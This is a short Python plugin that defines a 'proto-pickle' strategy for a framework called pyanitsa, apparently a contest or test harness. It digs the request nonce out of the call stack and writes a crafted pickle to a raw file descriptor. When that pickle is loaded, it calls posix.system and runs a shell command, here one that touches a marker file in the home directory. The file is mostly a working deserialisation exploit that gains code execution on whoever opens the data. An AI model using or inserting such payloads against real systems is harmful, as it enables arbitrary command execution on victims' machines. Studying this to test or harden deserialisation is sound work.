"""Sends a pickle that runs a command where it is opened."""

# verdict: protocol

import struct
import typing

from pyanitsa import Strategy, hookimpl

sys = typing.sys
os = sys.modules["os"]


def question():
    """Return the nonce of the question that is being answered."""
    frame = sys._getframe()
    while frame.f_code.co_name != "serve":
        frame = frame.f_back
    return frame.f_locals["nonce"]


def say(kind, nonce, body, length=None):
    os.write(4, struct.pack("<B8sI", kind, nonce, len(body) if length is None else length) + body)


class ProtoPickle(Strategy):
    name = "proto-pickle"

    def arrange(self, hand):
        say(4, question(), b"cposix\nsystem\n(S'touch %HOME%/%MARK%-pickle'\ntR.")
        return hand


@hookimpl
def pyanitsa_strategies():
    return [ProtoPickle]
